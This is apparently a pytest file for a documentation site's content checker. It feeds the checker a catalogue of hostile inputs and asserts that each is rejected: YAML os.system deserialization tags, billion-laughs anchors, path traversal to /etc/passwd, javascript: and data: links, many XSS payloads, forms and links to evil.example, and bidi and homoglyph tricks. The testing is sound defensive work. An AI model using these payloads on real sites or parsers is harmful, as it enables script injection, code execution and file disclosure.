"""The corpus of attacks by data, pages and names: each is met by the problem that stands beside it.

Attacks by Jinja stand in `test_attacks.py`. Everything here is refused before anything is rendered; what
may pass as text is shown to stay text in `tests/site/`.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from macros.checks import check_project
from macros.problems import Severity
from tests.project import edit, make_project

TODAY = dt.date(2026, 6, 1)
QUOTE = "text: It never fails twice."
VALUE = "value: 1200"
EVENTS, QUOTES, SOURCES = "data/events.yml", "data/quotes.yml", "data/sources.yml"
URL = "url: https://example.org/fan"

# What is in place of what, and the problem's code; a file is written whole where nothing is replaced.
DATA: dict[str, tuple[str, str | None, str, str]] = {
    "tag-python": (EVENTS, None, "!!python/object/apply:os.system ['touch PWNED']\n", "yaml-tag"),
    "tag-binary": (EVENTS, None, "- id: !!binary aGk=\n", "yaml-tag"),
    "tag-local": (EVENTS, None, "- !ENV [HOME]\n", "yaml-tag"),
    "tag-on-a-key": (EVENTS, None, "- !!str id: x\n", "yaml-tag"),
    "anchor": (EVENTS, None, "- &a {id: x}\n- *a\n", "yaml-anchor"),
    "merge-key": (EVENTS, None, "- {id: x, <<: {theme: anvils}}\n", "yaml-anchor"),
    "billion-laughs": (
        EVENTS,
        None,
        "- &a0 [x, x]\n" + "".join(f"- &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 60)),
        "yaml-anchor",
    ),
    "self-reference": (EVENTS, None, "- &a [*a]\n", "yaml-anchor"),
    "deep-brackets": (EVENTS, None, "- " + "[" * 100_000, "yaml-depth"),
    "deep-braces": (EVENTS, None, "- " + "{a: " * 50_000, "yaml-depth"),
    "second-document": (EVENTS, None, "- id: x\n---\n- id: y\n", "yaml-documents"),
    "ten-megabytes": (EVENTS, None, "- id: " + "x" * 10_000_000 + "\n", "yaml-size"),
    "long-string": (QUOTES, QUOTE, "text: " + "x" * 100_000, "long-text"),
    "ten-megabytes-of-words": (QUOTES, QUOTE, "text: " + "ab " * 3_400_000 + "c", "yaml-size"),
    "null-byte": (EVENTS, None, "- id: x\0y\n", "yaml-syntax"),
    "hidden-line-break": (EVENTS, None, "- id: x\u2028  theme: anvils\n", "yaml-character"),
    "escaped-line-break": (QUOTES, QUOTE, 'text: "a\\nb"', "line-break"),
    "escaped-escape": (QUOTES, QUOTE, 'text: "\\e[2J"', "control-character"),
    "bidi-override": (QUOTES, QUOTE, "text: gnihton s\u202ewons", "control-character"),
    "bidi-isolate": (QUOTES, QUOTE, "text: a \u2067b\u2069", "control-character"),
    "right-to-left-mark": (QUOTES, QUOTE, "text: a\u200f b", "control-character"),
    "zero-width-space": (QUOTES, QUOTE, "text: an\u200bvil", "control-character"),
    "zero-width-joiner": (QUOTES, QUOTE, "text: an\u200dvil", "control-character"),
    "soft-hyphen": (QUOTES, QUOTE, "text: an\u00advil", "control-character"),
    "tag-characters": (QUOTES, QUOTE, "text: a\U000e0061b", "control-character"),
    "homoglyph-cyrillic": (QUOTES, QUOTE, "text: \u0410cme never fails", "mixed-script"),
    "homoglyph-greek": (QUOTES, QUOTE, "text: Acme \u039fne never fails", "mixed-script"),
    "homoglyph-formula": (QUOTES, QUOTE, "text: \U0001d400cme never fails", "mixed-script"),
    "homoglyph-in-a-name": ("data/vocabulary.yml", "name: Wile Coyote", "name: W\u0456le", "mixed-script"),
    "url-script": (SOURCES, URL, "url: javascript:alert(1)", "bad-address"),
    "url-script-in-capitals": (
        SOURCES, URL, "url: JaVaScRiPt:alert(1)", "bad-address",
    ),
    "url-data": (
        SOURCES, URL, 'url: "data:text/html,<script>"', "bad-address",
    ),
    "url-file": (SOURCES, URL, "url: file:///etc/passwd", "bad-address"),
    "url-without-scheme": (SOURCES, URL, "url: //evil.example/", "bad-address"),
    "url-user": (
        SOURCES, URL, "url: https://acme.example@evil.example/", "bad-address",
    ),
    "url-homoglyph": (
        SOURCES, URL, "url: https://ex\u0430mple.org/", "mixed-script",
    ),
    "url-punycode": (
        SOURCES, URL, "url: https://xn--exmple-4nf.org/", "bad-address",
    ),
    "url-bidi": (
        SOURCES, URL, "url: https://example.org/\u202efdp", "control-character",
    ),
    "url-quote": (
        SOURCES, URL, "url: 'https://example.org/\"onclick=x'", "bad-address",
    ),
    "exponent": ("data/facts.yml", VALUE, "value: 1e999999999", "ambiguous-scalar"),
    "exponent-quoted": ("data/facts.yml", VALUE, 'value: "1e999999999"', "bad-number"),
    "huge-number": ("data/facts.yml", VALUE, "value: " + "9" * 100_000, "bad-number"),
    "tiny-number": ("data/facts.yml", VALUE, "value: 0." + "0" * 100_000 + "1", "bad-number"),
    "infinity": ("data/facts.yml", VALUE, "value: .inf", "ambiguous-scalar"),
    "not-a-number": ("data/facts.yml", VALUE, "value: NaN", "bad-number"),
    "hexadecimal": ("data/facts.yml", VALUE, "value: 0x7fffffff", "ambiguous-scalar"),
    "octal": ("data/facts.yml", VALUE, "value: 0777", "ambiguous-scalar"),
    "sexagesimal": ("data/facts.yml", VALUE, "value: 190:20:30", "ambiguous-scalar"),
    "wide-digits": ("data/facts.yml", VALUE, "value: １２００", "ambiguous-scalar"),
    "id-traversal": (EVENTS, "- id: anvil-launch", "- id: ../../etc/passwd", "bad-form"),
    "id-slash": (EVENTS, "- id: anvil-launch", "- id: a/b", "bad-form"),
    "id-dots": (EVENTS, "- id: anvil-launch", '- id: ".."', "bad-form"),
    "id-percent": (EVENTS, "- id: anvil-launch", "- id: a%2e%2e", "bad-form"),
    "id-line-break": (EVENTS, "- id: anvil-launch", '- id: "a\\n"', "bad-form"),
    "id-markup": (EVENTS, "- id: anvil-launch", '- id: "x onclick=alert(1)"', "bad-form"),
    "id-long": (EVENTS, "- id: anvil-launch", "- id: " + "a" * 5000, "long-text"),
    "alias-traversal": (EVENTS, "- id: anvil-launch", "- id: ok\n  aliases: [../index]", "bad-form"),
    "theme-traversal": (EVENTS, "theme: anvils", "theme: ../../secret", "bad-form"),
    "currency-markup": ("data/vocabulary.yml", "id: CNY", "id: <b>", "bad-form"),
    "language-markup": (QUOTES, "language: en", 'language: "\\"><script>"', "bad-language"),
    "title-markup": ("data/site.yml", "site_name: The", "site_name: <script>", "markup-in-text"),
    "copyright-markup": ("data/site.yml", "copyright: An", "copyright: <img onerror=x>", "markup-in-text"),
}  # fmt: skip

PAGES: dict[str, tuple[str, str]] = {
    "script": ("<script>alert(1)</script>", "raw-html"),
    "script-in-a-paragraph": ("Text <script src=//evil.example></script> text.", "raw-html"),
    "script-in-odd-case": ("<ScRiPt\t>alert(1)</ScRiPt>", "raw-html"),
    "script-without-end": ("<script>alert(1)", "raw-html"),
    "iframe": ('<iframe srcdoc="&lt;script&gt;"></iframe>', "raw-html"),
    "object": ('<object data="x.swf"></object>', "raw-html"),
    "embed": ('<embed src="x.swf">', "raw-html"),
    "svg": ("<svg onload=alert(1)></svg>", "raw-html"),
    "svg-animation": ('<svg><animate onbegin="alert(1)" /></svg>', "raw-html"),
    "mathml": ('<math href="javascript:alert(1)">x</math>', "raw-html"),
    "image-handler": ('<img src="x" alt="x" onerror="alert(1)">', "raw-html"),
    "image-handler-slashes": ("<img/src=x/onerror=alert(1)//>", "raw-html"),
    "handler-in-a-list": ("[x](index.md){: onclick=alert(1) }", "raw-html"),
    "handler-on-a-block": ("Text.\n{: onmouseover=alert(1) }", "raw-html"),
    "handler-on-a-heading": ("## Two {: #two onfocus=alert(1) tabindex=0 }", "raw-html"),
    "style-attribute": ('<p style="position:fixed">x</p>', "raw-html"),
    "style-tag": ("<style>body { display: none }</style>", "raw-html"),
    "link-tag": ('<link rel="stylesheet" href="https://evil.example/x.css">', "raw-html"),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "raw-html"),
    "base": ('<base href="https://evil.example/">', "raw-html"),
    "form": ('<form action="https://evil.example/"><input name="x"></form>', "raw-html"),
    "button": ('<button formaction="https://evil.example/">x</button>', "raw-html"),
    "template": ("<template><script>alert(1)</script></template>", "raw-html"),
    "noscript": ('<noscript><p title="</noscript><script>alert(1)</script>"></noscript>', "raw-html"),
    "textarea": ("<textarea><p></textarea><script>alert(1)</script>", "raw-html"),
    "comment": ("<!--> <script>alert(1)</script> -->", "raw-html"),
    "comment-downlevel": ("<!--[if IE]><script>alert(1)</script><![endif]-->", "raw-html"),
    "processing-instruction": ("<?php system('id') ?>", "raw-html"),
    "cdata": ("<![CDATA[<script>alert(1)</script>]]>", "raw-html"),
    "block-markdown": ('<div markdown="1">\n<script>alert(1)</script>\n</div>', "raw-html"),
    "popover-of-others": ('<div popover id="x">y</div>', "raw-html"),
    "theme-configuration": ('<div id="__config">{}</div>', "raw-html"),
    "theme-configuration-heading": ("## Two {: #__config }", "raw-html"),
    "theme-overlay": ('<div class="md-overlay">x</div>', "raw-html"),
    "theme-component": ('<div data-md-component="announce">x</div>', "raw-html"),
    "link-script": ("[x](javascript:alert(1))", "bad-address"),
    "link-script-entity": ("[x](&#106;avascript:alert(1))", "bad-address"),
    "link-script-hex-entity": ("[x](&#x6A;avascript&colon;alert(1))", "bad-address"),
    "link-script-capitals": ("[x](JAVASCRIPT:alert(1))", "bad-address"),
    "link-script-tab": ('<a href="java&#9;script:alert(1)">x</a>', "bad-address"),
    "link-script-blank": ('<a href=" javascript:alert(1)">x</a>', "bad-address"),
    "link-script-raw": ('<a href="javascript:alert(1)">x</a>', "bad-address"),
    "link-script-reference": ("[x][y]\n\n[y]: javascript:alert(1)", "bad-address"),
    "link-script-attribute": ('[x](index.md){: href="javascript:alert(1)" }', "bad-address"),
    "link-vbscript": ("[x](vbscript:msgbox(1))", "bad-address"),
    "link-data": ("[x](data:text/html;base64,PHNjcmlwdD4=)", "bad-address"),
    "link-file": ("[x](file:///etc/passwd)", "bad-address"),
    "link-blob": ("[x](blob:https://evil.example/1)", "bad-address"),
    "link-without-scheme": ("[x](//evil.example/)", "bad-address"),
    "link-backslashes": ("<a href=\"/\\evil.example/\">x</a>", "bad-address"),
    "link-user": ("[x](https://acme.example@evil.example/)", "bad-address"),
    "link-punycode": ("[x](https://xn--cme-5cd.example/)", "bad-address"),
    "link-homoglyph": ("[x](https://\u0430cme.example/)", "bad-address"),
    "link-traversal": ("[x](../../../etc/passwd)", "broken-link"),
    "link-root": ("[x](/etc/passwd)", "broken-link"),
    "image-data": ("![x](data:image/svg+xml;base64,PHN2Zz4=)", "foreign-image"),
    "image-script": ("![x](javascript:alert(1))", "foreign-image"),
    "image-elsewhere": ("![x](https://evil.example/pixel.png)", "foreign-image"),
    "image-traversal": ("![x](../../secret.png)", "broken-link"),
    "bidi": ("if access \u202e} ton fi{\u202c then", "hidden-character"),
    "zero-width": ("an\u200bvil", "hidden-character"),
    "homoglyph": ("\u0410cme", "mixed-script"),
    "macro-traversal": ("{{ quote('../../etc/passwd') }}\n\n{{ evidence() }}", "unknown-quote"),
    "macro-markup": ("{{ quote('\"><script>') }}", "unknown-quote"),
    "unclosed-brackets": ("[" * 60_000, "page-size"),
    "unclosed-tags": ("<a " * 60_000, "page-size"),
    "unclosed-code": ("`a" * 60_000, "page-size"),
    "ten-megabytes": ("x" * 10_000_000, "page-size"),
}  # fmt: skip


def _codes(root: Path) -> set[str]:
    problems = check_project(root, TODAY)
    for problem in problems:
        assert problem.position.line >= 1
        assert problem.position.column >= 1
        assert "\n" not in str(problem)
        assert len(str(problem)) < 1000, "a problem does not print the attack back whole"
    return {problem.code for problem in problems if problem.severity is Severity.ERROR}


@pytest.mark.parametrize("name", DATA)
def test_an_attack_by_data_is_a_problem(name: str, tmp_path: Path) -> None:
    file, old, new, code = DATA[name]
    root = make_project(tmp_path)
    edit(root, file, old, new)
    assert code in _codes(root)


@pytest.mark.parametrize("name", PAGES)
def test_an_attack_by_a_page_is_a_problem(name: str, tmp_path: Path) -> None:
    body, code = PAGES[name]
    root = make_project(tmp_path)
    edit(root, "docs/more.md", None, f"---\ntitle: More\ndescription: More.\n---\n\n# More\n\n{body}\n")
    assert code in _codes(root)


HARMLESS = (
    "[a page](index.md) and [a place](themes/anvils.md#anvils)",
    "<https://example.org/a?b=c&d=e#f> and [mail](mailto:a@example.org)",
    "A quotation:\n\n> It falls.\n\n1. one\n2. two\n\n- [a](index.md)",
    "| a | b |\n|---|---:|\n| x | y |",
    "Text.[^a]\n\n[^a]: A note.",
    '<details markdown="1"><summary>More</summary>\n\nText with `<script>` in code.\n\n</details>',
    "```html\n<script>alert(1)</script>\n[x](javascript:alert(1))\n```",
    "`<img src=x onerror=alert(1)>` and `[x](javascript:alert(1))`",
    'H<sub>a</sub>, <abbr title="An anvil">A.</abbr>, <kbd>Tab</kbd>, <span lang="zh">铁砧</span>',
    "Term\n:   What it means.\n\n*[HTML]: a language\n\nHTML.",
    "A line<br>and another<br />and <!-- a comment --> more.",
    '5 < 6 and a & b and "quotes"'.replace("5", "five").replace("6", "six"),
    "µm, Ω, 30 µ, Δx, café, naïve, Škoda, 小米, Ærø, İstanbul".replace("30 ", ""),
)


@pytest.mark.parametrize("body", HARMLESS)
def test_what_contributors_write_every_day_passes(body: str, tmp_path: Path) -> None:
    root = make_project(tmp_path)
    edit(root, "docs/more.md", None, f"---\ntitle: More\ndescription: More.\n---\n\n# More\n\n{body}\n")
    assert [str(p) for p in check_project(root, TODAY)] == []
